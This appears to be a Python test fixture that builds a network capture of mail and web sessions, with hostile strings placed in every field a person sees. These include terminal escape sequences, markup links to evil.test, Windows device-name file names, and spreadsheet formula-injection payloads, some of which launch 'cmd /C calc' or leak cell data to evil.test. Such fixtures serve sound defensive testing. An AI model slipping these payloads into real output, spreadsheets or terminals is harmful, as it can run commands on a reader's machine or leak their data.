"""A capture whose every visible string is an attack on the person reading the output.

Terminal escapes (CSI ``ESC[2J``, OSC 8 hyperlinks ended by ST ``ESC\\`` and by
BEL, the C1 CSI U+009B, bidi overrides and isolates), rich markup (``[/x]``,
``[link=https://evil.test/]Click[/link]``, ``[bold red]``), spreadsheet
formulas and Windows device names, placed in every header, command, reply,
user name, mailbox name, URL and file name a person sees; plus text that
decodes to lone surrogates (UTF-7) in :func:`build_surrogates`.
"""

from __future__ import annotations

import base64

from tests.pcaps import conversation, write_pcap

ESC = "\x1b"
#: Every escape and markup trick at once.
EVIL = (f"{ESC}[2J{ESC}]8;;https://evil.test/{ESC}\\Click{ESC}]8;;{ESC}\\ "
        f"{ESC}]8;;https://evil.test/\x07Bel{ESC}]8;;\x07 \x9b2J \u202eevil\u2066x\u2069\u200e "
        "[/x] [link=https://evil.test/]Click[/link] [bold red]red")
#: The same in bytes that can stand raw on a command line (no CR/LF, 8-bit clean).
RAW = f"{ESC}[2J{ESC}]8;;https://evil.test/\x07Bel{ESC}]8;;\x07 [/x][link=https://evil.test/]Click[/link]"

FORMULAS = ['=HYPERLINK("https://evil.test/?leak="&A2,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]
DEVICE_NAMES = ["CON .txt", "NUL .txt", "aux.tar.gz", "COM\u00b9.pdf", "conin$", "LPT9 . .doc", "Prn"]


def encoded_word(text: str) -> str:
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


def _attachment(name_param: str, body: str) -> str:
    return (f"--XX\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; {name_param}"
            f"\r\nContent-Transfer-Encoding: base64\r\n\r\n{base64.b64encode(body.encode()).decode()}\r\n")


def _message(headers: str, attachments: list[tuple[str, str]]) -> bytes:
    parts = "".join(_attachment(p, b) for p, b in attachments)
    return (headers + "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=XX\r\n\r\n"
            "--XX\r\nContent-Type: text/plain\r\n\r\nhello\r\n" + parts + "--XX--\r\n").encode("utf-8")


def _smtp(helo: str, mail_from: str, rcpts: list[tuple[str, bytes]], message: bytes) -> list:
    ex = [("s", f"220 {RAW} ESMTP\r\n".encode()), ("c", f"EHLO {helo}\r\n".encode()),
          ("s", f"250-{RAW}\r\n250 8BITMIME\r\n".encode()),
          ("c", b"[/x]\r\n"), ("s", f"500 {RAW}\r\n".encode()),
          ("c", f"MAIL FROM:<{mail_from}>\r\n".encode()), ("s", b"250 ok\r\n")]
    for rcpt, reply in rcpts:
        ex += [("c", f"RCPT TO:<{rcpt}>\r\n".encode()), ("s", reply)]
    ex += [("c", b"DATA\r\n"), ("s", b"354 go\r\n"), ("c", message + b".\r\n"),
           ("s", f"250 queued as {FORMULAS[0]}\r\n".encode()), ("c", b"QUIT\r\n"), ("s", b"221 bye\r\n")]
    return ex


def build(path: str) -> None:
    """Write the hostile capture to ``path``."""
    ew = encoded_word(EVIL)
    msg1 = _message(
        f"From: {ew} <a@evil.test>\r\nTo: {ew} <bob@example.com>\r\nCc: {encoded_word(FORMULAS[1])} "
        f"<cc@example.com>\r\nSubject: {ew}\r\nMessage-ID: <{RAW}@evil.test>\r\nUser-Agent: {RAW}\r\n"
        f"Received: from {RAW} ([10.9.9.9]) by mx.{RAW} with ESMTP id {FORMULAS[0]};\r\n"
        "\tMon, 1 Jan 2024 00:00:00 +0000\r\n",
        [(f'filename="{ew}"', "one"), *((f'filename="{n}"', f"device {i}") for i, n in enumerate(DEVICE_NAMES)),
         (f'filename="{FORMULAS[2]}.txt"', "formula")])
    msg2 = _message(
        f"From: {FORMULAS[2]} <m@evil.test>\r\nTo: bob@example.com\r\n"
        f"Subject: {FORMULAS[0]}\r\nMessage-ID: <{FORMULAS[3]}@evil.test>\r\n",
        [('filename="=1+1.txt"', "f")])
    f1, _, _ = conversation(exchanges=_smtp(RAW, '=HYPERLINK("x")@evil.test',
                                            [("bob@example.com", b"250 ok\r\n"),
                                             ("hidden@example.com", b"250 ok\r\n"),
                                             ("refused@example.com", f"550 {RAW}\r\n".encode())], msg1))
    f2, _, _ = conversation(client=("10.0.0.1", 40010), exchanges=_smtp(FORMULAS[1], "m@evil.test",
                                                                         [("bob@example.com", b"250 ok\r\n")],
                                                                         msg2), t0=1000.5)
    http = [("c", f"GET /{RAW}?a=[link=https://evil.test/]x[/link] HTTP/1.1\r\nHost: [link=https://evil.test/]h"
                  f"{ESC}[2J\r\nUser-Agent: {RAW}\r\n\r\n".encode()),
            ("s", f"HTTP/1.1 200 {RAW}\r\nContent-Length: 2\r\n\r\nok".encode())]
    f3, _, _ = conversation(client=("10.0.0.3", 40001), server=("10.0.0.4", 80), exchanges=http, t0=1001)
    pop = [("s", f"+OK {RAW}\r\n".encode()), ("c", f"USER {RAW}\r\n".encode()), ("s", b"+OK\r\n"),
           ("c", f"PASS [/x]{ESC}[2J\r\n".encode()), ("s", b"+OK\r\n"), ("c", b"QUIT\r\n"), ("s", b"+OK\r\n")]
    f4, _, _ = conversation(client=("10.0.0.5", 40002), server=("10.0.0.6", 110), exchanges=pop, t0=1002)
    imap = [("s", f"* OK {RAW}\r\n".encode()), ("c", f'a1 LOGIN "{RAW}" "pw"\r\n'.encode()),
            ("s", b"a1 OK done\r\n"), ("c", f'a2 SELECT "{RAW}"\r\n'.encode()),
            ("s", b"* 1 EXISTS\r\n* OK [UIDVALIDITY 7] x\r\na2 OK [READ-WRITE] done\r\n"),
            ("c", b"a3 LOGOUT\r\n"), ("s", b"* BYE\r\na3 OK bye\r\n")]
    f5, _, _ = conversation(client=("10.0.0.7", 40003), server=("10.0.0.8", 143), exchanges=imap, t0=1003)
    write_pcap(path, sorted(f1 + f2 + f3 + f4 + f5, key=lambda f: f[0]))


def build_surrogates(path: str) -> None:
    """One SMTP message whose From display name is UTF-7 that Python decodes to a lone surrogate."""
    msg = _message("From: =?utf-7?q?Mallory_+2D0-?= <m@evil.test>\r\nTo: bob@example.com\r\n"
                   "Subject: =?utf-7?q?hi+2D0-there?=\r\nMessage-ID: <s@evil.test>\r\n", [])
    frames, _, _ = conversation(exchanges=_smtp("client.example", "m@evil.test",
                                                [("bob@example.com", b"250 ok\r\n")], msg))
    write_pcap(path, frames)
